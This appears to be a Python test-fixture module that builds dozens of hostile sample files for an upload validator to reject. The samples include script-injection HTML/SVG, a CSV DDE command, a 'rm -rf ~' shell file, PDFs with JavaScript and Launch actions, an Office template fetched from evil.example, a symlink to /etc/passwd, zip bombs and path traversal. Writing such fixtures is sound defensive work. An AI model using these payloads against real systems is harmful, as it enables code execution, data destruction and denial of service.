"""Files that mean harm, by name: made here, each in a few lines."""

import io
import struct
import zipfile
import zlib

from tests.working_groups.files.making import (
    GOOD,
    ICS,
    PDF,
    object_stream,
    office,
    office_with,
    pdf_with,
    picture,
    zipped,
)

SCRIPT = b"<html><body><script>alert(document.domain)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
MEBIBYTE = 2**20
ZERO = b"\0" * (50 * MEBIBYTE)
EXTERNAL = (
    b'<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>'
    b"</Relationships>"
)


def claims(width: int, height: int) -> bytes:
    """Return a small PNG whose header announces a large picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def encrypted_zip() -> bytes:
    """Return an office file whose members say that a password opens them."""
    data = bytearray(office("docx"))
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(sign)
        while place >= 0:
            data[place + at] |= 1
            place = data.find(sign, place + 4)
    return bytes(data)


def lying_zip() -> bytes:
    """Return an office file with a part that unpacks to more than the list of members says."""
    data = bytearray(office_with("docx", {"word/big.xml": b"x" * 100_000}))
    for sign, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = data.rfind(sign)
        data[place + at : place + at + 4] = struct.pack("<I", 10)
    return bytes(data)


def symlink() -> bytes:
    """Return an office file with a link to a file outside."""
    buffer = io.BytesIO(office("docx"))
    with zipfile.ZipFile(buffer, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def nested(depth: int) -> bytes:
    """Return office files within each other."""
    inner = office("docx")
    for _time in range(depth):
        inner = office_with("docx", {"word/embeddings/inner.docx": inner})
    return inner


HOSTILE = {
    "page.html": SCRIPT,
    "drawing.svg": SVG,
    "feed.xml": b"<?xml version='1.0'?><x/>",
    "run.exe": b"MZ\x90\0",
    "html-as.pdf": SCRIPT,
    "html-as.txt": SCRIPT,
    "svg-behind-bom.txt": b"\xef\xbb\xbf\r\n " + SVG,
    "svg-as.csv": SVG,
    "svg-as.png": SVG,
    "shell.txt": b"#!/bin/sh\nrm -rf ~\n",
    "rich.txt": b"{\\rtf1 {\\object\\objupdate}}",
    "control.txt": b"a\x1b]0;evil\x07",
    "dde.csv": b"Name,Cost\n=cmd|'/C calc'!A0,3\n",
    "hyperlink.csv": b'Name,Cost\n"=HYPERLINK(""https://evil.example/"",""x"")",3\n',
    "page-as.ics": b"BEGIN:VCALENDAR\r\n" + SCRIPT,
    "unfinished.ics": ICS[:30],
    "javascript.pdf": pdf_with(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "escaped-javascript.pdf": pdf_with(b"<< /S /J#61vaScr#69pt /#4aS (app.alert\\(1\\)) >>"),
    "packed-javascript.pdf": pdf_with(object_stream(b"<< /S /JavaScript /JS (1) >>")),
    "twice-packed.pdf": pdf_with(object_stream(b"<< >>", b"/Filter [/ASCIIHexDecode /FlateDecode]")),
    "untyped-objects.pdf": pdf_with(object_stream(b"<< /JS (1) >>").replace(b"/Type /ObjStm", b"")),
    "launch.pdf": pdf_with(b"<< /S /Launch /F (calc.exe) >>"),
    "embedded.pdf": pdf_with(b"<< /Names << /EmbeddedFiles 8 0 R >> >>"),
    "locked.pdf": PDF.replace(b"/Root", b"/Encrypt 8 0 R /Root"),
    "objects-bomb.pdf": pdf_with(object_stream(b" " * (40 * MEBIBYTE))),
    "many-bombs.pdf": pdf_with(object_stream(b" " * (8 * MEBIBYTE)) * 5),
    "streams.pdf": pdf_with(b"stream\n" * 200_000),
    "half-an-address.pdf": pdf_with(b"% /URI (https://x\n<< /S /JavaScript /JS <31> >>\n% )"),
    "html-behind.pdf": PDF + SCRIPT,
    "html-in-front.pdf": SCRIPT + PDF,
    "html-within.pdf": PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n%" + SCRIPT + b"\n"),
    "zip-behind.pdf": PDF + zipped({"x.txt": b"x"}),
    "cut.pdf": PDF[:200],
    "macro.docx": office_with("docx", {"word/vbaProject.bin": OLE}),
    "macro-type.docx": office_with("docx", {}, "application/vnd.ms-word.document.macroEnabled.main+xml"),
    "excel4.xlsx": office_with("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}),
    "activex.docx": office_with("docx", {"word/activeX/activeX1.xml": b"<x/>"}),
    "ole-inside.docx": office_with("docx", {"word/embeddings/oleObject1.bin": OLE}),
    "program-inside.pptx": office_with("pptx", {"ppt/media/image1.emf": b"MZ\x90\0" + b"\0" * 99}),
    "template.docx": office_with("docx", {"word/_rels/settings.xml.rels": EXTERNAL}),
    "entities.docx": office_with("docx", {"word/x.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
    "utf16.docx": office_with("docx", {"word/x.xml": "<!DOCTYPE x><x/>".encode("utf-16")}),
    "dde.xlsx": office_with("xlsx", {"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd"/>'}),
    "dde.ods": office_with("ods", {"styles.xml": b'<office:dde-source office:dde-application="cmd"/>'}),
    "basic.odt": office_with("odt", {"Basic/Standard/Module1.xml": b"<x/>"}),
    "old.docx": OLE,
    "locked.docx": encrypted_zip(),
    "bomb.xlsx": office_with("xlsx", {"xl/a.xml": ZERO}),
    "lying.docx": lying_zip(),
    "list.docx": office_with("docx", {f"word/{'x' * 200}{n}.xml": b"" for n in range(4000)}),
    "many.docx": office_with("docx", {f"word/{n}.xml": b"" for n in range(4000)}),
    "nested.docx": nested(3),
    "bomb-inside.pptx": office_with("pptx", {"ppt/embeddings/t.xlsx": office_with("xlsx", {"xl/a.xml": ZERO})}),
    "climbing.docx": office_with("docx", {"../../etc/x.xml": b"<x/>"}),
    "absolute.docx": office_with("docx", {"/etc/x.xml": b"<x/>"}),
    "link.docx": symlink(),
    "zip-as.docx": zipped({"a.txt": b"a"}),
    "folder-only.docx": zipped({"word/document.xml": b"<x/>"}),
    "html-in-front.docx": SCRIPT + office("docx"),
    "html-behind.docx": office("docx") + SCRIPT,
    "html-comment.docx": zipped({"[Content_Types].xml": b"<Types/>"}, comment=SCRIPT),
    "xlsx-as.docx": office("xlsx"),
    "huge.png": claims(50_000, 50_000),
    "wide.png": claims(2_000_000_000, 1),
    "large.png": claims(9_000, 9_000),
    "html-behind.png": picture() + SCRIPT,
    "zip-behind.png": picture() + office("docx"),
    "html-behind.jpg": picture("JPEG") + SCRIPT,
    "pdf-behind.jpg": picture("JPEG") + PDF,
    "behind.webp": picture("WEBP") + b"x" * 99,
    "cut.png": picture()[:40],
    "html-as.jpg": b"\xff\xd8\xff\xe0" + SCRIPT,
    "gif-as.png": picture("GIF"),
    "png-as.pdf": picture(),
    "empty.pdf": b"",
    "fifty.pdf": PDF + b"\n" + ZERO,
    "report.pdf.html": PDF,
    "png-as.txt": GOOD["plan.png"],
}
